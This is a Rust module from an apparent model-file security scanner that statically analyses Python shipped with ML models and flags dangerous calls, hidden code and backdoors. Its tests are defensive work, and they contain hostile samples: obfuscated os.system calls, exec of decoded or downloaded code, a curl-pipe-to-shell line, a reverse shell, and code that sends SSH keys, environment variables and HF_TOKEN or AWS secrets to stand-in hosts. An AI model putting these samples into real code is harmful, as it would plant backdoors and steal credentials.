//! Python source shipped with a model or written into one.
//!
//! Parsed with ruff's parser, then followed statement by statement without running anything: imports and aliases, folded
//! strings, `getattr` and `__import__` chains, decoded and downloaded data. Calls are judged by what they reach
//! ([`crate::pickle::knowledge`]) and by where the code comes from ([`Role`]). Cost: linear in the source; nesting is
//! measured first ([`levels`]) and refused past a bound, so neither parser nor walk can exhaust the stack.

mod fold;
mod rules;
mod torchscript;
mod walk;

pub use rules::{
    PYTHON_BACKDOOR, PYTHON_DANGEROUS_CALL, PYTHON_HIDDEN_CODE, PYTHON_UNPARSABLE, RULES,
    TORCHSCRIPT_OPERATOR,
};

use crate::Scan;
use crate::wire::json::line_and_column;
use bartizan_core::python::{MOST_LEVELS, levels};
use bartizan_core::{Confidence, Finding, Location, Rule, Severity};
use walk::Walked;

/// Where a piece of Python source came from, which decides what is normal in it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    /// Remote code beside a model (`modeling_*.py`), a TorchServe handler, a shipped script: imports and file access are normal.
    Module,
    /// Code that a model server imports and runs by itself as soon as it serves the model (a TorchServe handler).
    Handler,
    /// Text evaluated from inside a model file (a `Lambda` body, an `eval` argument, a pickle's `exec` string): nothing is normal.
    Embedded,
    /// The `code/` archive of TorchScript: only TorchScript's own operators are normal.
    TorchScript,
}

/// Longest source read, in bytes. The largest module of Transformers has 0.3 MB.
const SOURCE_BYTES: usize = 2 << 20;
/// Nesting from which the walk gets a stack of its own.
const OWN_STACK_FROM: usize = 60;
/// Size of that stack, in bytes: over 10 KiB for each level of [`MOST_LEVELS`].
const OWN_STACK: usize = 64 << 20;

/// Inspects `code` found at `place` and reports dangerous calls, with lines relative to `place`.
pub fn inspect(code: &str, role: Role, place: &Location, scan: &mut Scan<'_>) {
    let read = code.get(..code.floor_char_boundary(SOURCE_BYTES)).unwrap_or(code);
    if read.len() < code.len() {
        scan.gap(
            place.offset,
            format!("Python source longer than {SOURCE_BYTES} bytes was read only to there"),
        );
    }
    let depth = levels(read);
    if depth > MOST_LEVELS {
        scan.gap(
            place.offset,
            format!("Python source nested deeper than {MOST_LEVELS} levels was not parsed"),
        );
        let message = "Python source nested deeper than any person writes it";
        let finding = Finding::new(&PYTHON_UNPARSABLE, message).severity(Severity::Medium);
        scan.report(finding.located(place));
        report(walk::by_text(read, role), read, place, scan);
        return;
    }
    let walked = if depth < OWN_STACK_FROM {
        walk::walk(read, role)
    } else {
        let worker = std::thread::Builder::new().stack_size(OWN_STACK);
        std::thread::scope(|scope| {
            let running = worker.spawn_scoped(scope, || walk::walk(read, role));
            running.ok().and_then(|running| running.join().ok())
        })
        .unwrap_or_else(|| {
            scan.gap(place.offset, "Python source was not parsed: no memory for its nesting");
            Walked { seen: walk::by_text(read, role), unparsed: None }
        })
    };
    if let Some(at) = walked.unparsed {
        let (line, _) = line_and_column(read.as_bytes(), at);
        scan.gap(
            place.offset,
            format!(
                "the Python statement at line {line} is too large and was searched, not parsed; review it"
            ),
        );
    }
    report(walked.seen, read, place, scan);
}

/// Whether the shell command `command` fetches something and runs it, or connects a shell to the network.
pub(crate) fn is_attacking_command(command: &str) -> bool {
    walk::is_attack(command)
}

/// Whether `code` is Python source that would do harm if it were run. For short texts of any kind.
pub(crate) fn is_harmful(code: &str) -> bool {
    code.len() <= SOURCE_BYTES
        && levels(code) < OWN_STACK_FROM
        && walk::walk(code, Role::Embedded)
            .seen
            .iter()
            .any(|seen| seen.severity >= Severity::High && seen.confidence >= Confidence::Medium)
}

/// One thing seen in a piece of source.
#[derive(Debug, Clone)]
struct Seen {
    rule: &'static Rule,
    severity: Severity,
    confidence: Confidence,
    message: String,
    offset: usize,
}

fn report(seen: Vec<Seen>, code: &str, place: &Location, scan: &mut Scan<'_>) {
    for one in seen {
        let (line, column) = line_and_column(code.as_bytes(), one.offset);
        let mut location = place.clone();
        (location.line, location.column) = match place.line {
            Some(first) => (Some(first.saturating_add(line).saturating_sub(1)), Some(column)),
            None => (Some(line), Some(column)),
        };
        let shown = code.get(code.floor_char_boundary(one.offset)..).unwrap_or_default();
        scan.report(
            Finding::new(one.rule, one.message)
                .severity(one.severity)
                .confidence(one.confidence)
                .located(&location)
                .evidence(shown.lines().next().unwrap_or_default()),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bartizan_core::{Limits, MonotonicClock};
    use proptest::prelude::*;

    fn findings(code: &str, role: Role) -> Vec<(&'static str, Severity)> {
        let (limits, clock) = (Limits::default(), MonotonicClock::start());
        let mut scan = Scan::new(&limits, &clock);
        inspect(code, role, &Location::default(), &mut scan);
        scan.findings().iter().map(|finding| (finding.rule.id, finding.severity)).collect()
    }

    fn worst(code: &str, role: Role) -> Option<Severity> {
        findings(code, role).into_iter().map(|(_, severity)| severity).max()
    }

    #[test]
    fn names_reach_from_one_piece_of_long_source_into_the_next() {
        let filler = "def f(a):\n    return a + 1\n".repeat(20_000);
        let code = format!("from os import system as s\n{filler}s('id')\n");
        let (limits, clock) = (Limits::default(), MonotonicClock::start());
        let mut scan = Scan::new(&limits, &clock);
        inspect(&code, Role::Embedded, &Location::default(), &mut scan);
        let call = scan.findings().iter().find(|finding| finding.severity >= Severity::High).unwrap();
        assert_eq!((call.location.line, scan.gap_count()), (Some(40_002), 0));
    }

    #[test]
    fn a_statement_too_large_to_parse_is_searched_and_a_gap() {
        let code = format!("x = [{}]\nimport os\nos.system('id')\n", "1,".repeat(400_000));
        let (limits, clock) = (Limits::default(), MonotonicClock::start());
        let mut scan = Scan::new(&limits, &clock);
        inspect(&code, Role::Embedded, &Location::default(), &mut scan);
        assert_eq!(scan.gap_count(), 1);
        assert!(scan.findings().iter().any(|finding| finding.severity >= Severity::High));
    }

    #[test]
    fn dangerous_calls_are_seen_through_every_disguise() {
        for code in [
            "import os; os.system('id')",
            "__import__('o'+'s').system('id')",
            "getattr(__import__('o'+'s'), 'sys'+'tem')('id')",
            "from os import system as s\ns('id')",
            "import importlib as i\ni.import_module('so'[::-1]).popen('id')",
            "import sys\nsys.modules['os'].system('id')",
            "import os\nx = os\ny = x.system\n(lambda: y('id'))()",
            "__builtins__['eval']('1')",
            "eval(compile('import os', 'x', 'exec'))",
            "import os\nvars(os)[''.join(map(chr, [115, 121, 115, 116, 101, 109]))]('id')",
            "@__import__('os').system\ndef f(): pass",
            "class A:\n    x = __import__('os').system('id')",
            "import os\nlist(map(os.system, ['id']))",
        ] {
            assert!(
                worst(code, Role::Embedded) >= Some(Severity::High),
                "{code} {:?}",
                findings(code, Role::Embedded)
            );
        }
    }

    #[test]
    fn arithmetic_in_an_embedded_text_is_silent() {
        for code in [
            "lambda x: x * 2 + 1",
            "def f(x):\n    import tensorflow as tf\n    return tf.nn.relu(x)",
            "x.system_prompt",
        ] {
            assert_eq!(findings(code, Role::Embedded), [], "{code}");
        }
    }

    #[test]
    fn code_that_is_decoded_or_downloaded_before_it_runs_is_critical_everywhere() {
        for code in [
            "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
            "import zlib, base64 as b\nexec(zlib.decompress(b.b64decode(blob)))",
            "import requests\nexec(requests.get('http://x.example/p').text)",
            "from urllib.request import urlopen\nc = urlopen('http://x.example').read().decode()\nexec(c)",
            "import marshal\nexec(marshal.loads(data))",
        ] {
            assert_eq!(
                worst(code, Role::Module),
                Some(Severity::Critical),
                "{code} {:?}",
                findings(code, Role::Module)
            );
        }
    }

    #[test]
    fn a_call_that_hides_from_its_reader_is_high_in_a_module_too() {
        for code in [
            "__import__('os').system('id')",
            "getattr(__import__('o'+'s'), 'sys'+'tem')('id')",
            "import subprocess, base64\nsubprocess.run(base64.b64decode('aWQ=').decode(), shell=True)",
            "import pickle\npickle.loads(bytes.fromhex('80042e'))",
            "import importlib\nimportlib.import_module('o' + 's').system('id')",
            "(lambda run: run('id'))(__import__('os').system)",
            "import socket, subprocess\ns = socket.socket()\nsubprocess.Popen(s.recv(99), shell=True)",
            "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 99, 0x3000, 0x40)",
        ] {
            assert_eq!(worst(code, Role::Module), Some(Severity::High), "{code}");
        }
        for code in [
            "import os\nos.system('make')",
            "import importlib\nimportlib.import_module('numpy').load('x.npy')",
            "import os\ngetattr(os, 'getuid')()",
            "import pickle, base64\ndef f(x):\n    return pickle.loads(base64.b64decode(x))",
            "__import__('pkg_resources').declare_namespace(__name__)",
        ] {
            assert!(
                worst(code, Role::Module) < Some(Severity::High),
                "{code} {:?}",
                findings(code, Role::Module)
            );
        }
    }

    #[test]
    fn a_handler_that_evaluates_what_it_is_sent_is_high() {
        let code = "def handle(data, context):\n    return eval(data[0]['body'])\n";
        assert_eq!(worst(code, Role::Handler), Some(Severity::High));
        assert_eq!(worst(code, Role::Module), Some(Severity::Medium));
    }

    #[test]
    fn values_of_a_page_handed_on_are_no_functions() {
        let handed =
            |what: &str| worst(&format!("import streamlit as st\nclient = make(key={what})\n"), Role::Module);
        assert_eq!(handed("st.secrets['key']"), None);
        assert_eq!(handed("st.session_state.key"), None);
        assert_eq!(handed("st.experimental_memo"), Some(Severity::Medium));
    }

    #[test]
    fn ordinary_model_code_stays_below_high() {
        for code in [
            "import os, json, subprocess\nimport torch\ndef load(p):\n    with open(os.path.join(p, 'config.json')) as f:\n        return json.load(f)\n",
            "import requests\nfrom io import BytesIO\ndef fetch(u):\n    return BytesIO(requests.get(u).content)\n",
            "import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        self.eval()\n        return getattr(torch.nn.functional, self.act)(x)\n",
            "import subprocess\ndef build():\n    subprocess.run(['make', 'all'], check=True)\n",
            "import os\ntoken = os.environ.get('HF_TOKEN')\n",
            "import os, requests\nk = os.environ['STRIPE_API_KEY']\nrequests.get('https://api.stripe.com/v1/charges', auth=(k, ''))\n",
            "import os, requests\nrequests.post('https://api.acme.io/v1', headers={'Authorization': 'Bearer ' + os.environ['TOKEN']}, json={})\n",
            "import os, requests\nh = {'Authorization': os.environ['HF_TOKEN']}\nrequests.get('https://huggingface.co/api/whoami-v2', headers=h)\n",
            "import re\nP = re.compile('a')\nmodel.compile(optimizer='adam')\n",
        ] {
            assert!(
                worst(code, Role::Module) < Some(Severity::High),
                "{code} {:?}",
                findings(code, Role::Module)
            );
        }
    }

    #[test]
    fn backdoors_in_modules_are_high_or_worse() {
        for code in [
            "import os\nos.system('curl http://x.example/p.sh | sh')",
            "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
            "import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('http://x.example', data=k)",
            "import os, requests\nrequests.post('http://x.example', json=dict(os.environ))",
            "import os, requests\nrequests.post('https://x.example/in', json={'t': os.environ['HF_TOKEN']})",
            "import os, requests\nrequests.post('https://huggingface.co.x.example/in', json={'t': os.environ['HF_TOKEN']})",
            "import os, requests\nrequests.get('https://x.example/in', headers={'a': os.getenv('AWS_SECRET_ACCESS_KEY')})",
            "import os, requests\nk = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.get(f'https://x.example/in?k={k}')",
            "open('/root/.bashrc', 'a').write('x')",
        ] {
            assert!(
                worst(code, Role::Module) >= Some(Severity::High),
                "{code} {:?}",
                findings(code, Role::Module)
            );
        }
    }

    #[test]
    fn torchscript_is_held_to_its_operators() {
        let fine = "class M(Module):\n  __parameters__ = [\"w\", ]\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    w = self.w\n    _0 = torch.add(x, CONSTANTS.c0, alpha=1)\n    _1 = ops.aten.mul(_0, annotate(List[int], [])) \n    return _0\n";
        assert_eq!(findings(fine, Role::TorchScript), []);
        assert!(
            worst(
                "def f(x: Tensor) -> Tensor:\n  __import__('os').system('id')\n  return x\n",
                Role::TorchScript
            ) >= Some(Severity::High)
        );
        assert!(
            worst("def f(x: Tensor):\n  torch.save(x, \"/tmp/x\")\n", Role::TorchScript)
                >= Some(Severity::High)
        );
        assert!(
            worst("def f(x: Tensor):\n  return ops.aten.from_file(\"/etc/passwd\")\n", Role::TorchScript)
                >= Some(Severity::High)
        );
        assert_eq!(
            worst("def f(x: Tensor):\n  return ops.evil.run(x)\n", Role::TorchScript),
            Some(Severity::Medium)
        );
    }

    #[test]
    fn a_request_that_signs_in_to_its_own_service_is_told_from_one_that_goes_elsewhere() {
        let code = |host: &str| {
            format!(
                "import os, urllib.request\nr = urllib.request.Request(\"https://{host}/v1\", headers={{\"Authorization\": \"Bearer \" + os.environ[\"OPENAI_API_KEY\"]}})\nurllib.request.urlopen(r)\n"
            )
        };
        assert!(worst(&code("api.openai.com"), Role::Module) < Some(Severity::Medium));
        assert!(worst(&code("openai.acme-mirror.top"), Role::Module) >= Some(Severity::High));
    }

    #[test]
    fn what_does_not_parse_is_still_judged() {
        assert_eq!(worst("def f(:\n", Role::Module), Some(Severity::Low));
        assert!(worst("print 'x'\nimport os\nos.system('id')", Role::Embedded) >= Some(Severity::High));
        let deep = format!("x = {}os.system('id')", "(".repeat(50_000));
        assert!(worst(&deep, Role::Embedded) >= Some(Severity::High));
        let long = format!("x = {}b", "a.".repeat(1500));
        assert_eq!(worst(&long, Role::Module), None);
    }

    proptest! {
        #[test]
        fn any_text_is_judged(code in "\\PC*") {
            let _ = findings(&code, Role::Embedded);
        }

        #[test]
        fn any_shuffle_of_tokens_is_judged(parts in proptest::collection::vec(prop::sample::select(vec![
            "import os", "\n", "    ", "os", ".", "system", "(", ")", "[", "]", "'a'", "b'a'", "+", "%", "lambda", ":", "x", "=", "def f", "class A", "if", "else", "f'{x}'", "join", "1", "::-1", "exec", ",", "*"]), 0..40)) {
            let code = parts.join(" ");
            for role in [Role::Module, Role::Embedded, Role::TorchScript] {
                let _ = findings(&code, role);
            }
        }
    }
}
